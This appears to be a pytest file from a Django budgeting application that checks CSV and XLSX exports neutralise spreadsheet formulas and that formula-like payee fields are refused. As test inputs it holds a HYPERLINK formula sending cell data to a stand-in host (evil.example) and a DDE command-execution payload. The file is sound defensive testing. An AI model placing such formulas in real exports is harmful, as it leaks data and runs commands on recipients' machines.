"""No export carries a live spreadsheet formula (issue 17.5): text cells that start with = + - @ (or a
tab or carriage return) are written with a leading quote by the one helper every CSV and XLSX export
uses; numbers, negative ones included, stay numbers; and an export still re-imports as it was."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import json
import re
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.core.management import call_command
from ledger_support import make_budget
from openpyxl import load_workbook

from helpers import client_for, token_for
from selfdirect.allocation.charts import what_if_csv
from selfdirect.core import spreadsheet
from selfdirect.core.constants import Role
from selfdirect.extracare.engine.rota import Assignment, RotaResult, ShiftTemplate
from selfdirect.ledger import services as ledger_services
from selfdirect.ledger import statements
from selfdirect.ledger.models import Deployment
from selfdirect.ledger.policy import load as load_money_rules
from selfdirect.people import services as people_services
from selfdirect.people.models import Person
from selfdirect.reporting import exports
from selfdirect.reporting.indicators import Column, Table

SRC = Path(__file__).resolve().parents[2] / "src" / "selfdirect"
LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


@pytest.fixture(autouse=True)
def _fresh_money_rules():
    load_money_rules.cache_clear()
    yield
    load_money_rules.cache_clear()


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (LINK, "'" + LINK),
        ("+44 7700 900123", "'+44 7700 900123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        # numbers, and ordinary text, are written as they are
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("-1e3", "-1e3"),
        (-1250, -1250),
        (Decimal("-12.50"), Decimal("-12.50")),
        ("O'Brien", "O'Brien"),
        ("Smith = Jones", "Smith = Jones"),
        ("", ""),
        (None, None),
    ],
)
def test_formula_like_text_is_quoted_and_numbers_are_not(value, written):
    assert spreadsheet.safe_cell(value) == written
    if isinstance(value, str):
        assert spreadsheet.unquote(spreadsheet.safe_cell(value)) == value


def _calls(tree: ast.AST) -> set[str]:
    found = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            owner = node.func.value
            if isinstance(owner, ast.Name):
                found.add(f"{owner.id}.{node.func.attr}")
    return found


def test_every_export_writes_through_the_one_helper():
    """No module writes CSV with the csv module itself, and every XLSX writer uses safe_row."""
    helper = SRC / "core" / "spreadsheet.py"
    offenders = []
    for path in sorted(SRC.rglob("*.py")):
        if path == helper or "migrations" in path.parts:
            continue
        text = path.read_text()
        calls = _calls(ast.parse(text))
        if calls & {"csv.writer", "csv.DictWriter"}:
            offenders.append(f"{path.relative_to(SRC)} writes CSV without selfdirect.core.spreadsheet")
        if "openpyxl" in text and "Workbook" in text and "spreadsheet.safe_row" not in text:
            offenders.append(f"{path.relative_to(SRC)} writes XLSX without spreadsheet.safe_row")
    assert offenders == []


def test_the_people_export_quotes_formulas_and_re_imports_as_it_was(world, tmp_path):
    side = world.north
    person = side.caseload_person
    Person.objects.filter(pk=person.pk).update(family_name=LINK, phone="+44 7700 900123", given_name="@Ann")
    admin = side.users[Role.ADMIN]
    response = client_for(admin).get("/people/export.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    row = next(r for r in rows(text) if r[1] == "'@Ann")
    assert row[2] == "'" + LINK and row[14] == "'+44 7700 900123"
    # The command writes the same file.
    out = tmp_path / "people.csv"
    call_command("export_people", authority=side.authority.slug, username=admin.username, output=str(out),
                 stderr=io.StringIO())  # fmt: skip
    assert out.read_bytes().decode() == text
    # Imported into the other authority, the quotes come off again.
    south_admin = world.south.users[Role.ADMIN]
    only = "\r\n".join(line for line in text.splitlines() if line.startswith(("reference", person.reference)))
    only = only.replace(",Home team", ",")  # the other authority has teams of its own
    [copy] = people_services.import_people(south_admin, world.south.authority, only + "\r\n", "moved")
    assert (copy.given_name, copy.family_name, copy.phone) == ("@Ann", LINK, "+44 7700 900123")


def test_the_payment_file_quotes_a_formula_payee_and_account_and_keeps_amounts_numbers(world):
    side = world.north
    budget = make_budget(side.caseload_person, 624000, routes=[{"route": "isf", "payee_name": "Riverside"}])
    # Entered before payee details were checked (they are now refused where they are typed).
    Deployment.objects.filter(budget=budget).update(
        payee_name="=cmd|' /C calc'!A0", payee_account="@SUM(1+1)"
    )
    finance = side.users[Role.FINANCE]
    run = ledger_services.execute_run(ledger_services.start_run(finance, side.authority, "2026-04").pk)
    page = client_for(finance).get(f"/money/runs/{run.pk}/payments.csv").content.decode()
    api = client_for(finance).get(
        f"/api/v1/ledger/runs/{run.pk}/payments.csv",
        HTTP_AUTHORIZATION=f"Bearer {token_for(finance, side.authority)}",
    )
    assert api.status_code == 200 and api.content.decode() == page
    [header, line] = rows(page)
    assert header == ["payee", "account", "amount", "reference", "route"]
    assert line[:3] == ["'=cmd|' /C calc'!A0", "'@SUM(1+1)", "520.00"]


def test_the_statement_csv_keeps_negative_money_a_number(world):
    budget = make_budget(world.north.caseload_person, 624000)
    statement = rows(statements.statement_csv_text(budget))
    held = next(r for r in statement if r[0] == "Held now")
    assert re.fullmatch(r"-?\d+\.\d\d", held[1])
    text = io.StringIO()
    spreadsheet.writer(text).writerow(["clawed back", -1250, "-12.50"])
    assert text.getvalue() == "clawed back,-1250,-12.50\r\n"


def _table() -> Table:
    table = Table("by_team", "People by team", "=1+1 is not a definition",
                  [Column("Team", "text"), Column("People"), Column("Spent", "pence")])  # fmt: skip
    table.rows = [[LINK, 7, -1250], ["Home team", 12, 300]]
    return table


def test_reporting_csv_xlsx_and_open_data_quote_formulas_and_keep_numbers():
    table = _table()
    assert rows(exports.table_csv(table))[1:] == [["'" + LINK, "7", "-12.50"], ["Home team", "12", "3.00"]]
    report = SimpleNamespace(authority=SimpleNamespace(slug="northshire"), period=SimpleNamespace(label="2026-05"),
                             tables=[table])  # fmt: skip
    open_data = rows(exports.open_data_csv(report))  # type: ignore[arg-type]
    assert open_data[1] == ["northshire", "2026-05", "by_team", "'" + LINK, "People", "7"]
    sheet = load_workbook(io.BytesIO(exports.report_xlsx([table]))).active
    assert sheet["A2"].value == "'=1+1 is not a definition" and sheet["A2"].data_type == "s"
    assert sheet["A4"].value == "'" + LINK and sheet["A4"].data_type == "s"
    assert sheet["C4"].value == -12.5 and sheet["C4"].data_type == "n"
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_the_what_if_csv_quotes_formula_group_keys():
    row = {
        "people": 1,
        "base_pence": 100,
        "proposed_pence": 90,
        "change_pence": -10,
        "winners": 0,
        "losers": 1,
    }
    result = {"people": 1, "streams": {"adult_social_care": row}, "base": {"total_pence": 100},
              "proposed": {"total_pence": 90}, "winners": 0, "losers": 1,
              "groups": {"team": {"@team": row}}}  # fmt: skip
    lines = rows(what_if_csv(result))
    assert lines[-1] == ["team", "'@team", "1", "100", "90", "-10", "0", "1"]


def test_the_rota_csv_quotes_a_formula_worker_name():
    shift = ShiftTemplate(7 * 60, 14 * 60, night=False)
    rota = RotaResult("OPTIMAL", (Assignment("=HYPERLINK(1)", 0, shift, Decimal(7)),), 0.1, Decimal(7), Decimal(7),
                      week_start=dt.date(2026, 12, 7))  # fmt: skip
    assert rows(rota.to_csv())[1][0] == "'=HYPERLINK(1)"


def test_a_json_round_trip_is_not_touched(world):
    """Only spreadsheets are quoted: the API's JSON gives the name exactly as stored."""
    side = world.north
    Person.objects.filter(pk=side.caseload_person.pk).update(family_name=LINK)
    admin = side.users[Role.ADMIN]
    data = client_for(admin).get(
        f"/api/v1/people/{side.caseload_person.pk}",
        HTTP_AUTHORIZATION=f"Bearer {token_for(admin, side.authority)}",
    )
    assert json.loads(data.content)["family_name"] == LINK


def _draft_form(**changes):
    data = {
        "stream": "adult_social_care", "period_start_0": "1", "period_start_1": "4", "period_start_2": "2026",
        "period_end_0": "31", "period_end_1": "3", "period_end_2": "2027", "starts_on_0": "1", "starts_on_1": "4",
        "starts_on_2": "2026", "agreed": "10,400.00", "frequency": "four_weekly", "reason": "from the plan",
        "share_council_managed": "100", "payee_council_managed": "Home Care Ltd", "account_council_managed": "PROV-7",
    }  # fmt: skip
    return {**data, **changes}


def test_a_formula_payee_or_account_is_refused_on_the_page_naming_the_field(world):
    from selfdirect.ledger.models import Budget

    finance = client_for(world.north.users[Role.FINANCE])
    url = f"/money/people/{world.north.caseload_person.pk}/budgets/new/"
    response = finance.post(url, _draft_form(payee_council_managed=LINK, account_council_managed="@SUM(1)"))
    assert response.status_code == 400
    page = response.content.decode()
    assert 'id="id_payee_council_managed-error"' in page and 'id="id_account_council_managed-error"' in page
    assert ("Council-managed account: the name of who is paid must not start with =, +, - or @: a spreadsheet "
            "would take it for a formula") in page  # fmt: skip
    assert "Council-managed account: the account or provider reference must not start with" in page
    assert not Budget.objects.exists()
    # A payee whose name merely contains one of them, or a number, is fine.
    ok = finance.post(
        url, _draft_form(payee_council_managed="Smith + Daughters", account_council_managed="-0012")
    )
    assert ok.status_code == 302 and Budget.objects.count() == 1


def test_a_formula_payee_or_account_is_refused_by_the_api_and_the_command_naming_the_field(world):
    from selfdirect.ledger.models import Budget

    side = world.north
    finance = side.users[Role.FINANCE]
    body = {
        "person_id": side.caseload_person.pk, "stream": "adult_social_care", "period_start": "2026-04-01",
        "period_end": "2027-03-31", "starts_on": "2026-04-01", "agreed_annual_pence": 650000, "frequency": "monthly",
        "deployments": [{"route": "isf", "payee_name": "=cmd|' /C calc'!A0", "payee_account": "+1+1"}],
        "reason": "from the plan",
    }  # fmt: skip
    refused = client_for(finance).post(
        "/api/v1/ledger/budgets", data=json.dumps(body), content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {token_for(finance, side.authority)}",
    )  # fmt: skip
    assert refused.status_code == 422, refused.content
    assert {(tuple(e["path"]), e["message"].split(":")[1].strip()) for e in refused.json()["errors"]} == {
        (("body", "payee_name"), "the payee's name must not start with =, +, - or @"),
        (("body", "payee_account"), "the payee's account must not start with =, +, - or @"),
    }
    from django.core.management.base import CommandError

    with pytest.raises(
        CommandError, match=r"--payee: Individual Service Fund \(held by a provider\): the payee's name"
    ):
        call_command("draft_budget", "--authority", "northshire", "--as", finance.username, "--person",
                     side.caseload_person.reference, "--stream", "adult_social_care", "--period",
                     "2026-04-01:2027-03-31", "--starts-on", "2026-04-01", "--annual", "6500", "--frequency",
                     "monthly", "--route", "isf", "--payee", "isf=@SUM(1)", "--reason", "from the plan")  # fmt: skip
    assert not Budget.objects.exists()
